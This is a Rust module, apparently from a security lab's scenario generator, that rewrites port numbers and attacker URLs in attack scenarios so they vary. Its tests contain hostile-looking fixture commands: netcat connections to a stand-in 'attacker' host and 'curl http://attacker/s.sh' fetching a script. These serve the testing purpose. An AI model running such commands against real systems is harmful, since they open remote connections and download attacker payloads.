//! Other ports: of the attacker's services, and of servers that a scenario starts itself.

use super::super::file::Scenario;
use super::Random;
use super::text::{replace, whole};
use crate::lab::services::{Ports, Service};
use std::collections::BTreeSet;

/// How a URL without a port names the web server.
const URLS: [&str; 2] = ["http://attacker/", "http://203.0.113.66/"];

/// Where a scenario's own servers listen, as its clients write it before the port.
const OWN: [&str; 4] = ["127.0.0.1:", "127.0.0.1 ", "127.0.0.1\",", "127.0.0.1\", "];

/// Gives every port that is free another number, the same wherever it is mentioned.
pub fn change(scenario: &mut Scenario, random: &mut Random, others: &Ports) {
    // Honest services on ports that look suspicious are what some harmless scenarios are about.
    if scenario.is_benign() && random.once_in(2) {
        return;
    }
    let mut given = BTreeSet::new();
    for port in mentioned(scenario) {
        let other = match Service::of(port) {
            _ if is_own(scenario, port) => own(scenario, port, random),
            Some(service) => other(service, others, &given, random),
            None => None,
        };
        let Some(other) = other else { continue };
        given.insert(other);
        for text in scenario.texts_mut() {
            replace(text, &port.to_string(), &other.to_string());
        }
    }
    if let Some(port) = other(Service::Http, others, &given, random).filter(|_| random.once_in(2)) {
        for text in scenario.texts_mut() {
            for url in URLS {
                let with_port = format!("{}:{port}/", url.trim_end_matches('/'));
                *text = text.replace(url, &with_port);
            }
        }
    }
}

/// A port of `service` that is not given to another port of the scenario's.
fn other(service: Service, others: &Ports, given: &BTreeSet<u16>, random: &mut Random) -> Option<u16> {
    let free: Vec<u16> = others.others(service).filter(|port| !given.contains(port)).collect();
    let at = usize::try_from(random.below(free.len() as u64)).unwrap_or(0);
    free.get(at).copied()
}

/// Another port for a server of the scenario's own; `None` where it is mentioned only once: the server has it from elsewhere.
fn own(scenario: &mut Scenario, port: u16, random: &mut Random) -> Option<u16> {
    let name = port.to_string();
    let mentions: usize = scenario.texts_mut().iter().map(|text| whole(text, &name).count()).sum();
    // Anyone may listen there, and no connection is given one of these.
    let other = 20000 + u16::try_from(random.below(12000)).unwrap_or(0);
    (mentions > 1 && port >= 1024).then_some(other)
}

fn is_own(scenario: &mut Scenario, port: u16) -> bool {
    let name = port.to_string();
    let is_own = |text: &str| whole(text, &name).any(|at| OWN.iter().any(|before| text[..at].ends_with(before)));
    scenario.texts_mut().iter().any(|text| is_own(text))
}

/// Numbers in the scenario's texts that may be ports.
fn mentioned(scenario: &mut Scenario) -> BTreeSet<u16> {
    let texts = scenario.texts_mut();
    let numbers = texts.iter().flat_map(|text| text.split(|c: char| !c.is_ascii_digit()));
    numbers.filter_map(|number| number.parse().ok()).filter(|port| *port > 99).collect()
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests")]
    use super::super::super::file::parse;
    use super::*;

    fn scenario(image: &str, run: &str) -> Scenario {
        let text = format!("[[scenario]]\nid='a'\nimage='{image}'\nexpect=['miner']\nrun='''{run}'''\n");
        parse(&text).unwrap().remove(0)
    }

    fn ports() -> Ports {
        let mut next = 7000;
        Ports::with_others(|| {
            next += 1;
            next
        })
    }

    #[test]
    fn the_attackers_port_changes_wherever_it_is_mentioned() {
        let mut one = scenario("x", "nc attacker 4444; nc attacker 443 # 4444 14444x 10250 4444.");
        change(&mut one, &mut Random::new(1), &ports());
        let words: Vec<&str> = one.run.split([' ', ';']).collect();
        let (first, second) = (words[2], words[6]);
        assert!(first.starts_with('7') && second.starts_with('7') && first != second, "{}", one.run);
        assert!(one.run.ends_with(&format!("# {first} 14444x 10250 {first}.")), "{}", one.run);
    }

    #[test]
    fn a_server_of_ones_own_moves_with_its_clients() {
        let mut one = scenario("x", "nc -lp 4444 & nc 127.0.0.1 4444; curl 127.0.0.1:8080");
        change(&mut one, &mut Random::new(1), &ports());
        let port = one.run["nc -lp ".len()..].split(' ').next().unwrap().to_owned();
        assert!(port.starts_with(['2', '3']) && one.run.contains(&format!("127.0.0.1 {port};")), "{}", one.run);
        assert!(one.run.ends_with(":8080"), "{}", one.run);
    }

    #[test]
    fn a_url_without_a_port_gets_one_every_other_time() {
        let changed = |seed| {
            let mut one = scenario("x", "curl http://attacker/s.sh");
            change(&mut one, &mut Random::new(seed), &ports());
            one.run != "curl http://attacker/s.sh"
        };
        let changes = (0..100).filter(|seed| changed(*seed)).count();
        assert!((20..80).contains(&changes), "{changes}");
    }
}
